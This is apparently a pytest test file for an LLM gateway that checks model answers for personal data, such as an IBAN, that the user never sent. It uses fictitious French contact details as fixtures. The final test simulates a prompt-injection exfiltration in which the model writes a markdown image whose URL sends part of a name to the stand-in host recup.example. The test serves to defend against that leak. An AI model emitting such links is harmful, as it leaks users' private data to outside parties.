"""Answers that hold what nobody sent: the journal, the header of whole answers, the comment of streams."""

from __future__ import annotations

import asyncio
from typing import Any

import aiohttp
import anthropic
import openai
import pytest
import yaml
from tests.gateway.staging import KEY, Stage, staged

from egide.gateway.reviewing import Reviewer
from egide.policy import Policy

HEAD = {"authorization": f"Bearer {KEY}"}
TEXT = "Bonjour, je suis Mme Solenne Garrigou, joignable au 06 39 98 41 27."
OTHER = " Son IBAN est FR76 3000 6000 0112 3456 7890 189, selon l'article 1240 du Code civil."
WAIT = {"x-egide-checks": "wait"}
PATHS = {"openai": "chat/completions", "anthropic": "messages"}


def body(kind: str, text: str = TEXT, **more: Any) -> dict[str, Any]:
    asked = {"model": "grand" if kind == "openai" else "fin", "messages": [{"role": "user", "content": text}]}
    return {**asked, **({} if kind == "openai" else {"max_tokens": 50}), **more}


async def post(stage: Stage, kind: str, head: dict[str, str] | None = None, **more: Any) -> tuple[Any, str]:
    async with (
        aiohttp.ClientSession() as session,
        session.post(
            f"{stage.url}/{PATHS[kind]}", json=body(kind, **more), headers={**HEAD, **(head or {})}
        ) as answer,
    ):
        return answer.headers, await answer.text()


def reading(stage: Stage, answers: str) -> None:
    """Set which answers the policy has read."""
    content = yaml.safe_load(Policy.default().to_yaml())
    stage.company.policy = Policy.from_yaml(yaml.safe_dump({**content, "checks": {"answers": answers}}))


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_a_whole_answer_says_what_nobody_sent(stage: Stage, kind: str) -> None:
    stage.provider.alter = lambda text: text + OTHER
    headers, said = await post(stage, kind, WAIT)
    assert "FR76" in said
    assert headers["x-egide-checks"] == "unsent.iban=1, verify.law=1"
    closed = await stage.closed()
    assert (closed["checked"], closed["unsent"], closed["to_verify"]) == (True, {"IBAN": 1}, {"law": 1})


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_who_does_not_wait_gets_the_answer_at_once_and_the_journal_the_checks(
    stage: Stage, kind: str
) -> None:
    reading(stage, "always")
    stage.provider.alter = lambda text: text + OTHER
    headers, _ = await post(stage, kind)
    assert "x-egide-checks" not in headers
    assert (await stage.closed())["unsent"] == {"IBAN": 1}


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_an_echo_holds_nothing_new(stage: Stage, kind: str) -> None:
    headers, _ = await post(stage, kind, WAIT)
    assert headers["x-egide-checks"] == "none"
    assert "unsent" not in await stage.closed()


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_a_stream_is_checked_after_its_end(stage: Stage, kind: str) -> None:
    reading(stage, "always")
    stage.provider.alter = lambda text: text + OTHER
    headers, said = await post(stage, kind, stream=True)
    assert "x-egide-checks" not in headers
    assert "egide-checks" not in said
    assert (await stage.closed())["unsent"] == {"IBAN": 1}


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_who_asks_for_it_is_told_at_the_end_of_the_stream(stage: Stage, kind: str) -> None:
    stage.provider.alter = lambda text: text + OTHER
    _, said = await post(stage, kind, WAIT, stream=True)
    assert said.endswith("\n\n: egide-checks unsent.iban=1, verify.law=1\n\n")


async def test_the_client_libraries_read_such_a_stream(stage: Stage) -> None:
    async with openai.AsyncOpenAI(base_url=stage.url, api_key=KEY, max_retries=0) as client:
        stream = await client.chat.completions.create(**body("openai"), stream=True, extra_headers=WAIT)
        said = [choice.delta.content or "" async for chunk in stream for choice in chunk.choices]
    assert "".join(said) == TEXT
    base = stage.url.removesuffix("/v1")
    async with (
        anthropic.AsyncAnthropic(base_url=base, api_key=KEY, max_retries=0) as other,
        other.messages.stream(**body("anthropic"), extra_headers=WAIT) as events,
    ):
        assert await events.get_final_text() == TEXT


async def test_a_caller_who_leaves_after_the_end_does_not_stop_the_check(stage: Stage) -> None:
    reading(stage, "always")
    stage.provider.alter = lambda text: text + OTHER
    async with aiohttp.ClientSession() as session:
        answer = await session.post(
            f"{stage.url}/chat/completions", json=body("openai", stream=True), headers=HEAD
        )
        async for line in answer.content:
            if line.startswith(b"data: [DONE]"):
                break
        answer.close()
    closed = await stage.closed()
    assert (closed["status"], closed["unsent"]) == ("complete", {"IBAN": 1})


async def test_a_policy_may_do_without(stage: Stage) -> None:
    reading(stage, "never")
    headers, _ = await post(stage, "openai", WAIT)
    assert headers["x-egide-checks"] == "unread"
    assert (await stage.closed())["checked"] is False


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_by_default_only_who_asks_has_the_answer_read(stage: Stage, stream: bool) -> None:
    headers, said = await post(stage, "openai", stream=stream)
    assert "x-egide-checks" not in headers
    assert "egide-checks" not in said
    assert (await stage.closed())["checked"] is False


async def test_values_are_nowhere_in_the_journal(stage: Stage) -> None:
    reading(stage, "always")
    stage.provider.alter = lambda text: text + OTHER
    await post(stage, "openai")
    await stage.closed()
    assert not [
        value
        for value in ("3000 6000", "30006000", "Garrigou", "article 1240")
        if value in str(list(stage.store.read()))
    ]


async def test_a_detector_that_fails_leaves_the_answer_unchecked(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*given: object) -> None:
        raise RuntimeError("x")

    monkeypatch.setattr("egide.gateway.reviewing.check_answer", broken)
    async with staged() as stage:
        headers, said = await post(stage, "openai", WAIT)
        assert "Garrigou" in said
        assert headers["x-egide-checks"] == "unread"
        assert (await stage.closed())["checked"] is False


async def test_beyond_a_number_answers_are_not_read(stage: Stage) -> None:
    analyst = stage.gateway._parts.analyst
    reviewer = Reviewer(analyst, most_at_once=2)
    snapshot = stage.company.snapshot()
    tasks = [reviewer.begin(snapshot, lambda: "Bonjour.", (), asked=True) for _ in range(5)]
    checks = await asyncio.gather(*tasks)
    assert [one is None for one in checks] == [False, False, True, True, True]
    await reviewer.stop()


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_an_image_takes_no_value_away(stage: Stage, kind: str, stream: bool) -> None:
    """A document had the model write an image whose address holds what it read."""
    stage.provider.alter = lambda text: (
        f"Voici : ![x](https://recup.example/p?d={text.split('Mme ')[1][:18]})"
    )
    _, said = await post(stage, kind, stream=stream)
    assert "Garrigou" not in said
    assert "recup.example" in said or stream  # cut in pieces when streamed
